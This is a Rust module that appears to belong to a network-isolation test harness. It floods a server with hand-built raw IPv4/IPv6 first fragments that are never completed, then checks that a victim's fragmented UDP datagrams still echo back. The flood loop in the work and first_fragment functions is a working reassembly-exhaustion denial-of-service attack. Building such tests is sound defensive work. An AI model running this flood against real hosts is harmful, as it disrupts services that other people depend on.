//! First fragments of datagrams whose rest never comes: an entry each for whoever remembers them. They go to another server than the
//! victim's, whose own memory for reassembly is not ours to share. The victim's own fragmented datagrams must arrive.

use crate::fair::arena::{Arena, ECHO, Way};
use crate::fair::{Assault, Attack};
use crate::pods::Family;
use anyhow::{Context, Result, ensure};
use socket2::{Domain, Protocol, Socket, Type};
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::time::Duration;

pub(super) const ATTACK: Attack = Attack {
    name: "fragments",
    bound: "fragments of an endpoint",
    port: ECHO,
    head_start: |scale| scale.actions_max / 10,
    work,
    check,
};

/// Of a raw socket: packets come with their IP headers.
const IPPROTO_RAW: i32 = 255;
const UDP: u8 = 17;
const FRAGMENT: u8 = 44;
/// Of the victim's datagrams: two fragments each.
const BYTES: usize = 2_000;
const DATAGRAMS: usize = 20;

fn work(assault: &Assault) -> Result<()> {
    let to = SocketAddr::new(assault.aside.ip(), 0);
    let own = {
        let probe = UdpSocket::bind(if to.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" })?;
        probe.connect(assault.aside)?;
        probe.local_addr()?.ip()
    };
    let socket = Socket::new(Domain::for_address(to), Type::RAW, Some(Protocol::from(IPPROTO_RAW)))?;
    let mut number = 0_u32;
    while assault.goes_on() {
        number = number.wrapping_add(1);
        let packet = first_fragment(own, assault.aside, number).context("two families")?;
        // A full queue of the device is no end of the attack.
        let _sent = socket.send_to(&packet, &to.into());
    }
    Ok(())
}

/// The start of a datagram of this number, with more to come.
fn first_fragment(from: IpAddr, to: SocketAddr, number: u32) -> Option<Vec<u8>> {
    let mut datagram = vec![0x10, 0x00];
    datagram.extend(to.port().to_be_bytes());
    datagram.extend([0x07, 0xd8, 0, 0]);
    datagram.extend([0; 16]);
    let [_, _, high, low] = number.to_be_bytes();
    let mut packet = Vec::new();
    match (from, to.ip()) {
        (IpAddr::V4(from), IpAddr::V4(to)) => {
            let length = u8::try_from(20 + datagram.len()).ok()?;
            packet.extend([0x45, 0, 0, length, high, low, 0x20, 0, 64, UDP, 0, 0]);
            packet.extend(from.octets());
            packet.extend(to.octets());
        }
        (IpAddr::V6(from), IpAddr::V6(to)) => {
            let length = u8::try_from(8 + datagram.len()).ok()?;
            packet.extend([0x60, 0, 0, 0, 0, length, FRAGMENT, 64]);
            packet.extend(from.octets());
            packet.extend(to.octets());
            packet.extend([UDP, 0, 0, 1]);
            packet.extend(number.to_be_bytes());
        }
        (IpAddr::V4(_) | IpAddr::V6(_), _) => return None,
    }
    packet.extend(datagram);
    Some(packet)
}

fn check(arena: &Arena, family: Family) -> Result<()> {
    let to = arena.server(Way::Through, family, ECHO);
    let own = SocketAddr::new(arena.node.pod("victim").spec.address(family), 0);
    let echoed = arena.victim().run(move || -> Result<usize> {
        let socket = UdpSocket::bind(own)?;
        socket.connect(to)?;
        socket.set_read_timeout(Some(Duration::from_secs(2)))?;
        let mut buffer = [0; 2 * BYTES];
        let mut echoed = 0;
        for _ in 0..DATAGRAMS {
            let _sent = socket.send(&[0; BYTES])?;
            echoed += usize::from(socket.recv(&mut buffer).is_ok_and(|bytes| bytes == BYTES));
        }
        Ok(echoed)
    })??;
    ensure!(echoed == DATAGRAMS, "{echoed} of {DATAGRAMS} fragmented datagrams of the victim came back");
    Ok(())
}
